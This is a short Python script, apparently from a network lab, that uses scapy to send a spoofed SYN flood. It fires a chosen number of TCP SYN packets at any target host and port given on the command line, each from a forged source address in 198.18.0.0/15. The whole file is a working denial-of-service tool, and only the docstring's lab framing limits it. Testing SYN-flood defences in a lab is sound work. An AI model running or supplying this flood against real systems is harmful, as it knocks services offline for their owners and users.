#!/usr/bin/python3
"""A spoofed SYN flood from the lab's outside namespace: COUNT SYNs to TARGET:PORT, each from
its own source in 198.18.0.0/15 (benchmarking range, routed back into the outside namespace,
which drops the answers). usage: flood.py TARGET PORT COUNT"""
import sys

from scapy.all import IP, TCP, conf, send

target, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
conf.verb = 0
packets = [IP(src=f"198.18.{i // 250}.{i % 250 + 1}", dst=target) /
           TCP(sport=1024 + i % 60000, dport=port, flags="S", seq=i) for i in range(count)]
send(packets, inter=0.0005)
